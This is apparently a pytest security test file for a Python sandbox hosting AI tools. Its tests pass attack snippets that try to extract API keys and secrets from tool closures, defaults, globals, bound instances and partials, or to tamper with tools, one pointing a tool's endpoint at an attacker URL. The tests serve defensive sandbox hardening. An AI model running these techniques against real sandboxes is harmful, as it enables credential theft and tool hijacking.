"""Tools and secrets: sandboxed code may call a tool, never read what the tool holds: its
globals, closure, defaults, bound instance, wrapped function, partial arguments, or the fields of
a callable tool object, whether by attribute, vars(), dataclasses, copy, pickle or json.
"""
from __future__ import annotations


def test_tool_closure_cell_contents(sandbox):
    sandbox.attack("print(fetch.__closure__[0].cell_contents)")


def test_tool_kwdefaults(sandbox):
    sandbox.attack("print(translate.__kwdefaults__['key'])")


def test_tool_defaults_and_kwdefaults_via_getattr(sandbox):
    sandbox.attack("print(getattr(translate, '__kwdefaults__'))")


def test_tool_bound_method_self_api_key(sandbox):
    sandbox.attack("print(lookup.__self__.api_key)")


def test_tool_bound_method_func_globals(sandbox):
    sandbox.attack("print(lookup.__func__.__globals__['SECRET'])")


def test_tool_bound_method_reduce_ex(sandbox):
    # A bound method reduces to (getattr, (instance, name)): the instance falls out.
    sandbox.attack("""
        fn, args = lookup.__reduce_ex__(2)
        print(args[0].api_key)
    """)


def test_tool_instance_field_api_key(sandbox):
    # A plain public attribute of a callable tool object: only the tool rule stops it.
    sandbox.attack("print(web_search.api_key)")


def test_tool_instance_getattr_api_key(sandbox):
    sandbox.attack("print(getattr(web_search, 'api_' + 'key'))")


def test_tool_instance_vars(sandbox):
    sandbox.attack("print(vars(web_search))")


def test_tool_instance_dict(sandbox):
    sandbox.attack("print(web_search.__dict__)")


def test_tool_instance_dir_then_getattr(sandbox):
    sandbox.attack("""
        for name in dir(web_search):
            if not name.startswith('_'):
                print(name, getattr(web_search, name))
    """, expect="any")


def test_tool_call_method_self(sandbox):
    sandbox.attack("print(web_search.__call__.__self__.api_key)")


def test_tool_wrapped_unwrap(sandbox):
    sandbox.attack("print(weather.__wrapped__.__globals__['SECRET'])")


def test_partial_tool_func_globals(sandbox):
    sandbox.attack("print(summarize.func.__globals__['SECRET'])")


def test_partial_tool_keywords(sandbox):
    sandbox.attack("print(summarize.keywords['key'])")


def test_partial_tool_reduce(sandbox):
    sandbox.attack("print(summarize.__reduce__())")


def test_partial_tool_setstate_rebinds_function(sandbox):
    # partial.__setstate__ replaces func/args/keywords of the host's tool object.
    sandbox.attack("""
        summarize.__setstate__((lambda *a, **k: 'hijacked', (), {}, None))
        summarize('text')
    """)


def test_dataclasses_asdict_tool_instance(sandbox):
    sandbox.attack("""
        import dataclasses
        print(dataclasses.asdict(web_search))
    """, allowed_imports=["dataclasses"])


def test_dataclasses_astuple_tool_instance(sandbox):
    sandbox.attack("""
        import dataclasses
        print(dataclasses.astuple(web_search))
    """, allowed_imports=["dataclasses"])


def test_dataclasses_replace_copies_tool_fields(sandbox):
    sandbox.attack("""
        import dataclasses
        twin = dataclasses.replace(web_search)
        print(twin.api_key)
    """, allowed_imports=["dataclasses"])


def test_copy_of_tool_instance_reads_api_key(sandbox):
    # The copy is a new object: a guard keyed on the tool's identity would not recognise it.
    sandbox.attack("""
        import copy
        print(copy.copy(web_search).api_key)
    """, allowed_imports=["copy"])


def test_deepcopy_of_bound_method_tool(sandbox):
    sandbox.attack("""
        import copy
        twin = copy.deepcopy(lookup)
        print(twin.__self__.api_key)
    """, allowed_imports=["copy"])


def test_json_dumps_default_vars_tool_instance(sandbox):
    sandbox.attack("""
        import json
        print(json.dumps(web_search, default=vars))
    """, allowed_imports=["json"])


def test_pickle_dumps_tool_instance(sandbox):
    sandbox.attack("""
        import pickle
        print(pickle.dumps(web_search))
    """, allowed_imports=["pickle"])


def test_repr_of_tool_instance_shows_fields(sandbox):
    # A dataclass repr prints every field: the tool object must not be printable as itself
    # (a masked repr is fine, so the run may succeed).
    sandbox.attack("print(repr(web_search))", expect="any")


def test_help_on_tool_shows_default_key(sandbox):
    # pydoc renders the signature, defaults included.
    sandbox.attack("help(translate)")


def test_tool_attribute_write(sandbox):
    sandbox.attack("web_search.endpoint = 'https://attacker.example/collect'")


def test_tool_setattr_on_function(sandbox):
    sandbox.attack("setattr(search, 'cache', {'poisoned': True})")


def test_tool_delattr_field(sandbox):
    sandbox.attack("del web_search.api_key")


def test_tool_mutable_field_mutation(sandbox):
    # `calls` is a list owned by the host's tool object.
    sandbox.attack("web_search.calls.append('planted')")


def test_tool_kwdefaults_overwrite(sandbox):
    sandbox.attack("translate.__kwdefaults__ = {'key': 'attacker'}")


def test_cve_2026_4963_augassign_reads_kwdefaults(sandbox):
    # Augmented assignment reads the target first: `x.attr |= v` is a read of x.attr.
    sandbox.attack("translate.__kwdefaults__ |= {'key': 'attacker'}")


def test_cve_2026_4963_augassign_on_globals_subscript(sandbox):
    sandbox.attack("search.__globals__['SECRET'] += '-tampered'")


def test_cve_2026_4963_augassign_merges_into_globals(sandbox):
    sandbox.attack("search.__globals__ |= {'planted': True}")
